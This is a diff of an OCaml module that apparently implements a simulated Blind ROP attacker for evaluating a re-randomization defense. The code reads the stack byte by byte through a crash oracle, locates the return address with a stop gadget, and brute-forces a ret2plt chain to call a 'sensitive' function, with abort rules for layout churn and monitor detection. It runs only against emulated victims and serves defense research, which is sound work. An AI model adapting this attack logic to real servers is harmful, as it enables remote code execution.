@@ -1,120 +1,139 @@
 open R2c_machine
 
-let output_lines t =
-  String.fold_left (fun acc c -> if c = '\n' then acc + 1 else acc) 0 (Process.output (Oracle.proc t))
+type outcome = { probes : int; ra_offset : int option; note : string; compromised : bool }
 
-type probe_result = Survived | Crashed_probe | Gone
+let churn_limit = 3
+let stall_limit = 20
+let sweep_budget = 4000
 
-(* One probe: respawn, reach the serving state, deliver the payload, run to
-   the end; report survival. The response lines the attacker saw stay in
-   the process output. *)
-let probe t payload =
-  if Oracle.dead t then Oracle.restart t;
-  match Oracle.to_break t with
-  | `Done _ -> Gone
-  | `Break -> (
-      Oracle.send t payload;
-      match Oracle.resume_to_end t with
-      | Process.Exited _ -> Survived
-      | Process.Crashed _ | Process.Timeout -> Crashed_probe)
+(* Sweep chains that stop crashing this many times in a row no longer land
+   on a return address. *)
+let quiet_limit = 40
 
-let run ?(probe_budget = 20_000) ?(monitor_threshold = 1) ~target:t () =
-  let tl = Report.tally t in
-  let monitor_tripped () = Oracle.detections t >= monitor_threshold in
-  let abort why =
-    Report.note tl "%s" why;
-    Report.of_tally tl
+exception Give_up of string
+
+let campaign ~probe_budget (v : Victim.t) =
+  let probes = ref 0 and stalls = ref 0 and churn = ref 0 in
+  let give_up note = raise (Give_up note) in
+  let probe payload =
+    incr probes;
+    let r = v.probe payload in
+    if r <> Victim.Refused then stalls := 0
+    else begin
+      incr stalls;
+      if !stalls >= stall_limit then give_up "fleet down, nothing to probe"
+    end;
+    r
   in
-  let budget_left () = tl.tries < probe_budget && not (monitor_tripped ()) in
-  let try_probe payload =
-    Report.attempt tl;
-    probe t payload
-  in
-  (* Bitau et al.'s stack reading: extend the overflow one byte at a time,
-     keeping only bytes the server survives. The true values are not needed
-     — any survivable filler reaches deeper into the frame. *)
+  let budget () = if !probes >= probe_budget then give_up "probe budget exhausted" in
   let filler = Buffer.create 128 in
-  let result = ref None in
-  let stop r = result := Some r in
-  let learn_byte () =
-    let rec guess g =
-      if g > 255 then None
-      else if not (budget_left ()) then None
-      else
-        match try_probe (Buffer.contents filler ^ String.make 1 (Char.chr g)) with
-        | Survived -> Some (Char.chr g)
-        | Crashed_probe -> guess (g + 1)
-        | Gone -> None
-    in
-    (* Likely bytes first: zero padding, then the canonical stack/heap/text
-       high bytes, then everything. *)
-    let ordered = [ 0x00; 0x41; 0xff; 0x7f; 0xfe; 0x55; 0x40 ] in
-    let rec preferred = function
-      | [] -> guess 0
-      | g :: tl -> (
-          if not (budget_left ()) then None
-          else
-            match try_probe (Buffer.contents filler ^ String.make 1 (Char.chr g)) with
-            | Survived -> Some (Char.chr g)
-            | Crashed_probe -> preferred tl
-            | Gone -> None)
-    in
-    preferred ordered
+  (* Likely bytes first (zero padding, canonical high bytes), then all. *)
+  let guesses = [ 0x00; 0x41; 0xff; 0x7f; 0xfe; 0x55; 0x40 ] @ List.init 256 Fun.id in
+  (* A byte the server already accepted should still be accepted: when it
+     stops being, the layout has changed under the attacker's feet —
+     re-randomization, BROP's published kryptonite. *)
+  let revalidate () =
+    Buffer.length filler = 0
+    ||
+    match probe (Buffer.contents filler) with
+    | Victim.Served _ ->
+        churn := 0;
+        true
+    | Victim.Died _ ->
+        incr churn;
+        if !churn >= churn_limit then give_up "layout churn: learned bytes no longer hold";
+        false
+    | Victim.Refused -> false
+  in
+  let rec learn_byte = function
+    | [] ->
+        (* Every value crashed at this depth: the oracle is lying —
+           nothing stable left to learn. *)
+        give_up "stack reading wedged: no survivable byte"
+    | g :: tl -> (
+        budget ();
+        match probe (Buffer.contents filler ^ String.make 1 (Char.chr g)) with
+        | Victim.Served _ -> Buffer.add_char filler (Char.chr g)
+        | Victim.Died _ -> learn_byte tl
+        | Victim.Refused -> learn_byte (g :: tl))
   in
   (* Stop-gadget test at a word boundary: a ret into a harmless PLT entry
-     produces one extra response line iff the word is the return address. *)
+     produces one extra response line iff the word is the return address
+     (both probes crash; the information is in the output seen first). *)
   let stop_plt = Payload.plt_addr_of "print_int" in
   let ra_here () =
     let base = Buffer.contents filler in
-    match try_probe (base ^ Payload.le64 stop_plt) with
-    | Survived | Gone -> false
-    | Crashed_probe -> (
-        let with_stop = output_lines t in
-        match try_probe (base ^ Payload.fill 8) with
-        | Survived | Gone -> false
-        | Crashed_probe -> with_stop > output_lines t)
+    match probe (base ^ Payload.le64 stop_plt) with
+    | Victim.Served _ | Victim.Refused -> false
+    | Victim.Died with_stop -> (
+        match probe (base ^ Payload.fill 8) with
+        | Victim.Served _ | Victim.Refused -> false
+        | Victim.Died with_garbage -> with_stop > with_garbage)
+  in
+  (* ret2plt: [pop rdi-style gadget][marker][sensitive] written over the
+     located return address; the first-gadget address is brute-forced
+     through the region after the PLT — architectural knowledge for a
+     non-PIE binary. *)
+  let sweep () =
+    let base = Buffer.contents filler in
+    let sensitive = Payload.plt_addr_of "sensitive" in
+    let start = Addr.text_base + (16 * List.length Image.builtin_names) in
+    let addr = ref start and quiet = ref 0 in
+    while
+      budget ();
+      (not (v.compromised ())) && !addr < start + sweep_budget
+    do
+      (* Sweeping blind is pointless if the layout churned mid-sweep:
+         recheck the learned filler every so often, and notice when the
+         chains stop crashing altogether. *)
+      if (!addr - start) mod 24 = 23 && not (revalidate ()) then incr addr
+      else begin
+        let chain =
+          Payload.le64 !addr ^ Payload.le64 R2c_workloads.Vulnapp.marker ^ Payload.le64 sensitive
+        in
+        match probe (base ^ chain) with
+        | Victim.Died _ ->
+            quiet := 0;
+            incr addr
+        | Victim.Served _ ->
+            incr quiet;
+            if !quiet >= quiet_limit then give_up "sweep chains stopped crashing: layout churn";
+            incr addr
+        | Victim.Refused -> ()
+      end
+    done;
+    if not (v.compromised ()) then give_up "gadget sweep exhausted without a working chain"
   in
   let ra_found = ref false in
-  while !result = None && not !ra_found do
-    if Buffer.length filler >= 512 then stop (abort "return address not located within 512 bytes")
-    else if not (budget_left ()) then
-      stop
-        (abort
-           (if monitor_tripped () then "monitoring response during stack reading"
-            else "probe budget exhausted during stack reading"))
-    else if Buffer.length filler mod 8 = 0 && ra_here () then ra_found := true
-    else
-      match learn_byte () with
-      | Some c -> Buffer.add_char filler c
-      | None ->
-          stop
-            (abort
-               (if monitor_tripped () then "monitoring response during stack reading"
-                else "stack reading failed"))
-  done;
-  match !result with
-  | Some r -> r
-  | None ->
-  Report.note tl "return address at buffer+%d (stack reading)" (Buffer.length filler);
-  (* Gadget sweep: ret2plt chain with brute-forced first gadget. The PLT of
-     a non-PIE binary is architectural knowledge. *)
-  let sensitive = Payload.plt_addr_of "sensitive" in
-  let start = Addr.text_base + (16 * List.length Image.builtin_names) in
-  let base = Buffer.contents filler in
-  let rec sweep addr =
-    if not (budget_left ()) then
-      abort
-        (if monitor_tripped () then "monitoring response during gadget sweep"
-         else "probe budget exhausted")
-    else begin
-      let chain =
-        Payload.le64 addr ^ Payload.le64 R2c_workloads.Vulnapp.marker ^ Payload.le64 sensitive
-      in
-      match try_probe (base ^ chain) with
-      | Gone -> abort "worker gone"
-      | Survived | Crashed_probe ->
-          if Oracle.compromised t then Report.of_tally tl
-          else sweep (addr + 1)
-    end
+  let ended =
+    try
+      while (not !ra_found) && not (v.compromised ()) do
+        budget ();
+        if Buffer.length filler >= 512 then give_up "return address not located within 512 bytes"
+        else if revalidate () then
+          if Buffer.length filler mod 8 = 0 && ra_here () then ra_found := true
+          else learn_byte guesses
+      done;
+      if !ra_found then sweep ();
+      None
+    with Give_up note -> Some note
   in
-  sweep start
+  let compromised = v.compromised () in
+  {
+    probes = !probes;
+    ra_offset = (if !ra_found then Some (Buffer.length filler) else None);
+    note =
+      (if compromised then "compromised: sensitive(marker) reached"
+       else Option.value ended ~default:"done");
+    compromised;
+  }
+
+let run ?(probe_budget = 20_000) ~target () =
+  let o = campaign ~probe_budget (Oracle.victim target) in
+  let ra =
+    Option.map (Printf.sprintf "return address at buffer+%d (stack reading)") o.ra_offset
+  in
+  let monitor =
+    if Oracle.detected target then [ "monitor tripped: every later probe refused" ] else []
+  in
+  Report.of_target ~attempts:o.probes ~notes:(Option.to_list ra @ (o.note :: monitor)) target
